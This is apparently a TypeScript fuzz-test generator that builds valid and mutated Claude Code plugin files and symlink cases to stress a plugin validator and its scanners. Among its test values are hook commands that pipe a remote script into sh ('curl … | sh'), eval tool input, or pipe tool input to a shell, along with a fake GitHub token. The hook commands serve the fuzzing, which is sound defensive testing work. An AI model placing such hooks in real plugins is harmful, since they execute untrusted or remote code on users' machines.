/**
 * Structure-aware generators for fuzzing the validator: valid agent, skill and command files, plugin.json,
 * marketplace.json and hooks.json, then mutations of their text (lines deleted or duplicated, random bytes,
 * unicode, quotes, colons, indentation, huge values).
 */
import fc from 'fast-check'

/** One file of a fuzz case: a path inside the project and its bytes (text, or raw bytes after a byte mutation). */
export interface FuzzFile {
  path: string
  content: string | Uint8Array
}

/**
 * A symbolic link in the case: to another path of the case, to a file or folder outside the project (whose content
 * must never be printed), to nothing, or to itself.
 */
export interface FuzzLink {
  path: string
  target: { inside: string } | 'outside-file' | 'outside-folder' | 'missing' | 'loop'
}

export interface FuzzCase {
  files: FuzzFile[]
  links?: FuzzLink[]
}

/** What the outside files hold; no output may contain it. */
export const outsideMarker = 'OUTSIDE-CONTENT-d41d8'

/**
 * Lines built against each body pattern the scanners run (issue 12), `size` characters long: a fence info string of
 * spaces, link openers, an unclosed region marker, a suppression comment, `curl` repeated before a pipe, runs of
 * 1, 2, 3 … backticks, and a YAML value that Claude Code's quoting retry rewrites. Values starting with `---` are
 * whole files (the pattern is in the front matter); the others are body lines.
 */
export function hostileBodies(size: number): Record<string, string> {
  const fill = (unit: string) => unit.repeat(Math.max(1, Math.floor(size / unit.length)))
  let ticks = ''
  for (let n = 1; ticks.length < size; n++) ticks += `${'`'.repeat(n)} `
  return {
    fence: `\`\`\`x${fill(' ')}y`,
    link: `](${fill('[\\')}`,
    'link-open': fill('[a]('),
    'region-marker': `<!-- backend-team:index ${fill(' ')}x`,
    suppression: `<!-- backend-team-disable${fill(' \t')}x`,
    curl: `---\nname: a\ndescription: "Use when a."\ntools: Read\nhooks:\n  PreToolUse:\n    - hooks:\n        - type: command\n          command: "${fill('curl ')}| sh"\n---\n\nBody.\n`,
    'backtick-runs': `x${ticks}`,
    'yaml-quoting': `---\nname: a\ndescription: x: y${fill(' ')}z\ntools: Read\nbad: [\n---\n\nBody.\n`,
  }
}

const kebab = fc.stringMatching(/^[a-z][a-z0-9]{0,7}(-[a-z0-9]{1,6}){0,2}$/)
const words = fc
  .array(
    fc.constantFrom('Use', 'when', 'the', 'review', 'Go', 'code', 'needs', 'tests', 'deploy', 'AWS', 'Lambda', 'schema', 'plan', 'audit'),
    { minLength: 2, maxLength: 14 },
  )
  .map((w) => w.join(' '))
const tools = fc.subarray(
  [
    'Read',
    'Write',
    'Edit',
    'Bash',
    'Grep',
    'Glob',
    'Skill',
    'Agent',
    'WebFetch',
    'NotebookEdit',
    'Task',
    'MultiEdit',
    'Bash(git:*)',
    'mcp__github',
    'NotATool',
  ],
  { minLength: 0, maxLength: 6 },
)
const models = fc.constantFrom('sonnet', 'opus', 'haiku', 'inherit', 'gpt-4o', 'claude-sonnet-4-5-20250929')
const modes = fc.constantFrom('default', 'plan', 'acceptEdits', 'bypassPermissions', 'dontAsk', 'auto', 'yolo')
const commands = fc.constantFrom(
  'npm test',
  'curl -fsSL https://example.com/i.sh | sh',
  'eval "$TOOL_INPUT"',
  '"${CLAUDE_PLUGIN_ROOT}/hooks/run.sh"',
  'jq -r .tool_input.command | sh',
  'echo ok',
)
const bodyLine = fc.oneof(
  words,
  fc.constant('```json\n{"status": "ok"}\n```'),
  fc.tuple(kebab, kebab).map(([a, b]) => `See [${a}](references/${b}.md) and \`${a}\`.`),
  fc.constant('<!-- backend-team-disable-next-line refs/broken-link -->'),
  fc.constant('Token: ghp_Zq3vR8kLm2Nw7Xc4Tb9Yp1Hd6Js0Fg5Ua8Ek'),
  fc.constant('# Heading'),
  // Region markers, well formed or not, with names that are also Object.prototype members.
  fc.constantFrom('agents', 'rules', 'constructor', '__proto__', 'toString', '', 'nope').map((n) => `<!-- backend-team:index ${n} -->`),
  fc.constant('<!-- /backend-team:index -->'),
  fc.constant('> <!-- backend-team:index rules -->'),
  // Long lines against the scanners, short enough for thousands of cases.
  fc
    .tuple(
      fc.constantFrom(...Object.keys(hostileBodies(1)).filter((k) => !hostileBodies(1)[k]!.startsWith('---'))),
      fc.constantFrom(500, 5_000, 20_000),
    )
    .map(([k, n]) => hostileBodies(n)[k]!),
)
const body = fc.array(bodyLine, { maxLength: 8 }).map((lines) => `${lines.join('\n')}\n`)

/** A YAML list written as a flow list, a block list or a comma string. */
function yamlList(key: string, values: string[], style: number): string {
  if (style === 0) return `${key}: ${values.join(', ')}`
  if (style === 1) return `${key}: [${values.join(', ')}]`
  return `${key}:${values.length ? '' : ' []'}\n${values.map((v) => `  - ${v}`).join('\n')}`
}

const agent = fc
  .record({
    name: kebab,
    description: words,
    tools: fc.option(tools),
    style: fc.nat(2),
    model: fc.option(models),
    mode: fc.option(modes),
    skills: fc.option(fc.array(kebab, { maxLength: 3 })),
    hook: fc.option(commands),
    body,
  })
  .map((a) => {
    const lines = [`name: ${a.name}`, `description: "${a.description}"`]
    if (a.tools) lines.push(yamlList('tools', a.tools, a.style))
    if (a.model) lines.push(`model: ${a.model}`)
    if (a.mode) lines.push(`permissionMode: ${a.mode}`)
    if (a.skills) lines.push(yamlList('skills', a.skills, a.style))
    if (a.hook)
      lines.push(
        `hooks:\n  PreToolUse:\n    - matcher: Bash\n      hooks:\n        - type: command\n          command: ${JSON.stringify(a.hook)}`,
      )
    return { name: a.name, text: `---\n${lines.join('\n')}\n---\n\n${a.body}` }
  })

const skill = fc.record({ name: kebab, description: words, allowed: fc.option(tools), style: fc.nat(2), body }).map((s) => {
  const lines = [`name: ${s.name}`, `description: ${s.description}`]
  if (s.allowed) lines.push(yamlList('allowed-tools', s.allowed, s.style))
  return { name: s.name, text: `---\n${lines.join('\n')}\n---\n\n${s.body}` }
})

const command = fc.record({ name: kebab, description: words, hint: fc.option(words), body }).map((c) => ({
  name: c.name,
  text: `---\ndescription: ${c.description}\n${c.hint ? `argument-hint: "${c.hint}"\n` : ''}---\n\n${c.body}`,
}))

const pluginJson = fc
  .record({
    name: kebab,
    version: fc.option(fc.constantFrom('1.0.0', '0.1.0-beta', 'x')),
    hooks: fc.option(commands),
    extra: fc.option(fc.constantFrom('"foo": 1', '"agents": "./agents"', '"skills": "."', '"homepage": "not a url"')),
  })
  .map((p) =>
    JSON.stringify(
      {
        name: p.name,
        ...(p.version ? { version: p.version } : {}),
        description: 'A fuzz plugin.',
        author: { name: 'Fuzz' },
        ...(p.hooks ? { hooks: { Stop: [{ hooks: [{ type: 'command', command: p.hooks }] }] } } : {}),
      },
      null,
      2,
    ).replace(/\n}$/, p.extra ? `,\n  ${p.extra}\n}` : '\n}'),
  )

const marketplaceJson = fc
  .record({ name: kebab, plugin: kebab, source: fc.constantFrom('./', '.', 'plugins/x', './missing') })
  .map((m) => JSON.stringify({ name: m.name, owner: { name: 'Fuzz' }, plugins: [{ name: m.plugin, source: m.source }] }, null, 2))

const hooksJson = fc
  .record({
    event: fc.constantFrom('PreToolUse', 'Stop', 'NotAnEvent', 'SessionStart'),
    command: commands,
    matcher: fc.option(fc.constantFrom('Bash', 'Write|Edit', '*')),
  })
  .map((h) =>
    JSON.stringify(
      { hooks: { [h.event]: [{ ...(h.matcher ? { matcher: h.matcher } : {}), hooks: [{ type: 'command', command: h.command }] }] } },
      null,
      2,
    ),
  )

/** A text mutation; applied in sequence to a valid file. */
type Mutation = (text: string) => string | Uint8Array

const at = (text: string, n: number) => (text.length === 0 ? 0 : n % (text.length + 1))
const splitLines = (text: string) => text.split('\n')

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.nat().map((n): Mutation => (t) => {
    const l = splitLines(t)
    l.splice(n % l.length, 1)
    return l.join('\n')
  }),
  fc.nat().map((n): Mutation => (t) => {
    const l = splitLines(t)
    const i = n % l.length
    l.splice(i, 0, l[i]!)
    return l.join('\n')
  }),
  fc.tuple(fc.nat(), fc.nat()).map(([a, b]): Mutation => (t) => {
    const l = splitLines(t)
    const i = a % l.length
    const j = b % l.length
    ;[l[i], l[j]] = [l[j]!, l[i]!]
    return l.join('\n')
  }),
  fc
    .tuple(
      fc.nat(),
      fc.constantFrom(
        ':',
        ': ',
        '"',
        "'",
        '#',
        ' #',
        '[',
        ']',
        '{',
        '}',
        '-',
        '---',
        '\t',
        '  ',
        '\n',
        '\r',
        '\r\n',
        '|',
        '>',
        '&a',
        '*a',
        '!',
        '%',
        '@',
        '`',
        '\\',
        '\u0000',
        '\ufeff',
      ),
    )
    .map(
      ([n, s]): Mutation =>
        (t) =>
          t.slice(0, at(t, n)) + s + t.slice(at(t, n)),
    ),
  fc.tuple(fc.nat(), fc.string({ unit: 'grapheme', maxLength: 8 })).map(
    ([n, s]): Mutation =>
      (t) =>
        t.slice(0, at(t, n)) + s + t.slice(at(t, n)),
  ),
  fc.tuple(fc.nat(), fc.string({ unit: 'binary', maxLength: 6 })).map(
    ([n, s]): Mutation =>
      (t) =>
        t.slice(0, at(t, n)) + s + t.slice(at(t, n)),
  ),
  fc.tuple(fc.nat(), fc.constantFrom(1, 2, 4, 8)).map(([n, k]): Mutation => (t) => {
    const l = splitLines(t)
    const i = n % l.length
    l[i] = ' '.repeat(k) + l[i]
    return l.join('\n')
  }),
  fc.nat().map((n): Mutation => (t) => {
    const l = splitLines(t)
    const i = n % l.length
    l[i] = l[i]!.replace(/^\s+/, '')
    return l.join('\n')
  }),
  fc.tuple(fc.nat(), fc.constantFrom(1_000, 20_000, 200_000)).map(
    ([n, k]): Mutation =>
      (t) =>
        t.slice(0, at(t, n)) + 'x'.repeat(k) + t.slice(at(t, n)),
  ),
  fc.nat().map(
    (n): Mutation =>
      (t) =>
        t.slice(0, at(t, n)),
  ),
  fc.tuple(fc.nat(), fc.uint8Array({ minLength: 1, maxLength: 8 })).map(([n, bytes]): Mutation => (t) => {
    const raw = Buffer.from(t)
    const i = raw.length === 0 ? 0 : n % raw.length
    return Buffer.concat([raw.subarray(0, i), Buffer.from(bytes), raw.subarray(i)])
  }),
)

/** Applies mutations in order; once a mutation produced raw bytes, later text mutations see its lossy text. */
function mutate(text: string, mutations: Mutation[]): string | Uint8Array {
  let current: string | Uint8Array = text
  for (const m of mutations) current = m(typeof current === 'string' ? current : Buffer.from(current).toString('latin1'))
  return current
}

const maybeMutated = (text: fc.Arbitrary<string>) => fc.tuple(text, fc.array(mutation, { maxLength: 4 })).map(([t, ms]) => mutate(t, ms))

/** A small plugin (with `.git`, so single-file runs find its root) of generated and mutated files. */
export const fuzzCase: fc.Arbitrary<FuzzCase> = fc
  .record({
    agents: fc.array(fc.tuple(agent, fc.array(mutation, { maxLength: 4 })), { minLength: 1, maxLength: 3 }),
    skills: fc.array(fc.tuple(skill, fc.array(mutation, { maxLength: 3 })), { maxLength: 2 }),
    commands: fc.array(fc.tuple(command, fc.array(mutation, { maxLength: 3 })), { maxLength: 1 }),
    plugin: fc.option(maybeMutated(pluginJson), { freq: 4 }),
    marketplace: fc.option(maybeMutated(marketplaceJson), { freq: 2 }),
    hooks: fc.option(maybeMutated(hooksJson), { freq: 2 }),
    readme: fc.option(fc.array(bodyLine, { maxLength: 6 }), { freq: 3 }),
    links: fc.array(
      fc.record({
        at: fc.constantFrom(
          'agents/linked.md',
          'skills/linked',
          'skills/l/SKILL.md',
          'commands',
          '.claude/agents',
          '.claude',
          'README.md',
          'docs',
        ),
        target: fc.constantFrom<FuzzLink['target']>(
          'outside-file',
          'outside-folder',
          'missing',
          'loop',
          { inside: 'agents' },
          { inside: 'README.md' },
        ),
      }),
      { maxLength: 2 },
    ),
  })
  .map((c) => {
    const files: FuzzFile[] = []
    const taken = new Set<string>()
    const add = (path: string, content: string | Uint8Array) => {
      if (taken.has(path)) return
      taken.add(path)
      files.push({ path, content })
    }
    for (const [a, ms] of c.agents) add(`agents/${a.name}.md`, mutate(a.text, ms))
    for (const [s, ms] of c.skills) add(`skills/${s.name}/SKILL.md`, mutate(s.text, ms))
    for (const [k, ms] of c.commands) add(`commands/${k.name}.md`, mutate(k.text, ms))
    if (c.plugin !== null) add('.claude-plugin/plugin.json', c.plugin)
    if (c.marketplace !== null) add('.claude-plugin/marketplace.json', c.marketplace)
    if (c.hooks !== null) add('hooks/hooks.json', c.hooks)
    if (c.readme !== null) add('README.md', `# Pack\n\n${c.readme.join('\n')}\n`)
    const links: FuzzLink[] = []
    for (const link of c.links) {
      // A link never replaces a generated file or sits inside another link.
      if ([...taken].some((p) => p === link.at || p.startsWith(`${link.at}/`) || link.at.startsWith(`${p}/`))) continue
      taken.add(link.at)
      links.push({ path: link.at, target: link.target })
    }
    return { files, links }
  })
